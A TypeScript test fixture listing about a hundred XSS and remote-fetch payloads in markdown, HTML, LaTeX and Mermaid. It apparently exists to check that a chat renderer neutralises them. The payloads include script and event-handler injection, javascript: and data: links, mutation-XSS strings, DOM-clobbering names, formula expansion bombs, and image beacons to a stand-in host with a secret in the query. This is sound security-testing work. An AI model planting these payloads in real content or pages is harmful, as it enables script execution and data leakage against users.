import { hostileCombinations } from './hostileCombinations';

/** An answer that tries to run code or to fetch something when it is shown. */
export interface HostileAnswer {
  /** What it tries. */
  name: string;
  markdown: string;
}

/** Runs when a vector succeeds: the test defines a function of this name in the page. */
export const hostileFunction = 'hostile';

/** Nothing may be fetched from here: the test watches the page's requests. */
export const hostileOrigin = 'https://hostile.example';

const call = `${hostileFunction}()`;
const evil = hostileOrigin;

function group(about: string, markdowns: readonly string[]): HostileAnswer[] {
  return markdowns.map((markdown, index) => ({ name: `${about} ${index + 1}`, markdown }));
}

function diagram(source: string): string {
  return `\`\`\`mermaid\n${source}\n\`\`\``;
}

export const hostileAnswers: readonly HostileAnswer[] = [
  ...group('script element', [
    `<script>${call}</script>`,
    `Text before <script>${call}</script> and after`,
    `<SCRIPT SRC=${evil}/a.js></SCRIPT>`,
    `<scr<script>ipt>${call}</scr</script>ipt>`,
    `<script\n>\n${call}\n</script\n>`,
    `<svg><script>${call}</script></svg>`,
    `<math><mtext><script>${call}</script></mtext></math>`,
    `- item <script>${call}</script>\n- <script>${call}</script>`,
    `| a |\n|---|\n| <script>${call}</script> |`,
  ]),
  ...group('event handler', [
    `<img src=x onerror=${call}>`,
    `<img src=x onerror="${call}" />`,
    `<svg onload=${call}>`,
    `<body onload=${call}>`,
    `<details open ontoggle=${call}>`,
    `<video><source onerror=${call}></video>`,
    `<input autofocus onfocus=${call}>`,
    `<marquee onstart=${call}>`,
    `<a href="#" onmouseover=${call}>over</a>`,
    `<div style="animation-name:x" onanimationstart=${call}>`,
    `<br onclick=${call}>`,
    `<br/onpointerenter=${call}>`,
  ]),
  ...group('address that runs code', [
    `[link](javascript:${call})`,
    `[link](JaVaScRiPt:${call})`,
    `[link](<javascript:${call}>)`,
    `[link](<java\tscript:${call}>)`,
    `[link](&#106;avascript:${call})`,
    `[link](&#x6A;&#x61;vascript&colon;${call})`,
    `[link](java&NewLine;script:${call})`,
    `[link](\u0001javascript:${call})`,
    `[link]( javascript:${call})`,
    `[link](vbscript:${call})`,
    `[link](data:text/html,<script>${call}</script>)`,
    `[link](data:text/html;base64,PHNjcmlwdD5ob3N0aWxlKCk8L3NjcmlwdD4=)`,
    `[link](blob:${evil}/1)`,
    `[link](file:///etc/passwd)`,
    `[link](command:workbench.action.terminal.new)`,
    `[link](vscode://publisher.extension/run)`,
    `[link][ref]\n\n[ref]: javascript:${call}`,
    `<javascript:${call}>`,
    `[![image](javascript:${call})](javascript:${call})`,
    `[link](javascript:${call} "title")`,
  ]),
  ...group('way out of an attribute', [
    `[link](https://example.com/"onclick="${call})`,
    `[link](https://example.com/ 'x" onclick="${call}')`,
    `[link](<https://example.com/" onmouseover="${call}>)`,
    `![alt" onerror="${call}](https://hostile.example/p.png)`,
    `![alt](https://hostile.example/p.png"onerror="${call})`,
    `![<img src=x onerror=${call}>](https://hostile.example/p.png)`,
    `https://example.com/"onclick="${call}`,
    `\`\`\`js"onclick="${call}\ncode\n\`\`\``,
    `\`\`\`"><script>${call}</script>\ncode\n\`\`\``,
    `~~~ts class=x onload=${call}\ncode\n~~~`,
  ]),
  ...group('way out of code', [
    `\`</code><script>${call}</script>\``,
    `\`\`\`html\n</code></pre><script>${call}</script>\n\`\`\``,
    `\`\`\`xml\n<![CDATA[ ]]><svg onload=${call}>\n\`\`\``,
    `    </code></pre><img src=x onerror=${call}>`,
    `\`\`\`diff\n-<img src=x onerror=${call}>\n+</span><script>${call}</script>\n\`\`\``,
    `\`\`\`html\n<img src=x onerror=${call}`,
  ]),
  ...group('fetch without a click', [
    `![pixel](${evil}/pixel.png?secret=1)`,
    `![pixel][ref]\n\n[ref]: ${evil}/pixel.png`,
    `<img src="${evil}/pixel.png">`,
    `<link rel=stylesheet href="${evil}/a.css">`,
    `<style>@import "${evil}/a.css"; * { background: url(${evil}/b.png) }</style>`,
    `<div style="background-image:url(${evil}/b.png)">`,
    `<iframe src="${evil}/frame"></iframe>`,
    `<object data="${evil}/object"></object><embed src="${evil}/embed">`,
    `<meta http-equiv=refresh content="0;url=${evil}/away">`,
    `<base href="${evil}/"><form action="${evil}/post"><button>send</button></form>`,
    `<video poster="${evil}/poster.png"></video><audio src="${evil}/sound"></audio>`,
    `![data](data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${call}"/>)`,
  ]),
  ...group('markup that changes when it is parsed again', [
    `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${call}>">`,
    `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
    `<svg></p><style><a id="</style><img src=x onerror=${call}>">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${call}>`,
    `<template><script>${call}</script></template>`,
    `<!--><img src=x onerror=${call}>-->`,
    `<![CDATA[<img src=x onerror=${call}>]]>`,
    `<?xml version="1.0"?><x onload=${call}>`,
  ]),
  ...group('name that shadows the page', [
    `<a id=chat name=strings>x</a>`,
    `<form id=chat><input name=acquireVsCodeApi></form>`,
    `[__proto__]: https://example.com\n\n[__proto__] [constructor]`,
    `[constructor]: javascript:${call}\n\n[constructor]`,
  ]),
  ...group('formula that leads, loads, names or styles something', [
    `$\\href{javascript:${call}}{x}$ and \\(\\url{javascript:${call}}\\)`,
    `$$\\includegraphics{${evil}/p.png}$$`,
    `$\\htmlClass{remote-image}{x} \\class{icon-button}{y} \\htmlId{chat}{z}$`,
    `$\\class{code-block}{x}$ $\\id{chat}{x}$ $\\data{action=copy-code}{x}$`,
    `$\\style{background:url(${evil}/b.png)}{x}$`,
    `$\\color{red;background:url(${evil}/b.png)}x$ $\\colorbox{url(${evil}/b.png)}{x}$`,
    `$\\text{<script>${call}</script>} \\text{<img src=x onerror=${call}>}$`,
    `$\\mathrm{</math><img src=x onerror=${call}>}$ $<img src=x onerror=${call}>$`,
    `$$\n\\begin{array}{c}\n<svg onload=${call}> & \\label{chat} \\ref{chat} \\tag{"onclick="${call}}\n\\end{array}\n$$`,
    `\\[ \\unicode{x3c}script\\unicode{x3e} \\char"3C \\verb|<script>${call}</script>| \\]`,
  ]),
  ...group('formula that grows', [
    `$\\def\\a{\\a\\a}\\a$ $\\newcommand{\\b}{\\b\\b}\\b$`,
    `$$\n\\gdef\\a{xxxxxxxx}\\gdef\\b{${'\\a'.repeat(500)}}${'\\b'.repeat(500)}\n$$`,
    `$$\n${'{'.repeat(50_000)}x${'}'.repeat(50_000)}\n$$`,
    `$${'\\llap{'.repeat(30)}x${'}'.repeat(30)}$`,
    `$\\rule{99999em}{99999em}$ $\\hspace{-99999em}x \\raisebox{99999em}{y} \\kern-99999em$`,
  ]),
  ...group('diagram that runs, loads or styles something', [
    diagram(`flowchart TD\n  A["<script>${call}</script><img src=x onerror=${call}>"] --> B`),
    diagram(`flowchart TD\n  A --> B\n  click A "javascript:${call}"\n  click B call ${call}`),
    diagram(`flowchart TD\n  A@{ img: "${evil}/p.png", label: "x" } --> B@{ icon: "fa:x" }`),
    diagram(
      `flowchart TD\n  A --> B\n  style A fill:url(${evil}/p.png),background:url(${evil}/p.png)`,
    ),
    diagram(
      `%%{init: {"securityLevel": "loose", "htmlLabels": true}}%%\nflowchart TD\n  A["<img src=x onerror=${call}>"]`,
    ),
    diagram(
      `---\nconfig:\n  securityLevel: loose\n  themeCSS: "* { background: url(${evil}/p.png) }"\n---\nflowchart TD\n  A["<svg onload=${call}>"]`,
    ),
    diagram(
      `flowchart TD\n%%{init: {"themeCSS": "} * { background: url(${evil}/p.png) } {"}}%%\n  A`,
    ),
    diagram(
      `sequenceDiagram\n  participant A as <iframe srcdoc="<script>${call}</script>">\n  A->>B: $$\\href{javascript:${call}}{x}$$\n  link A: x @ javascript:${call}`,
    ),
    diagram(
      `classDiagram\n  class A["<img src=x onerror=${call}>"]\n  link A "javascript:${call}" "t"\n  callback A "${call}"`,
    ),
    diagram(
      `stateDiagram-v2\n  state "<img src=x onerror=${call}>" as A\n  [*] --> A : </text><script>${call}</script>`,
    ),
    diagram(`erDiagram\n  "<img src=x onerror=${call}>" ||--o{ B : "<script>${call}</script>"`),
    diagram(`pie title <img src=x onerror=${call}>\n  "<script>${call}</script>" : 1`),
  ]),
  ...group('addresses and handlers, many at once', hostileCombinations(call)),
];
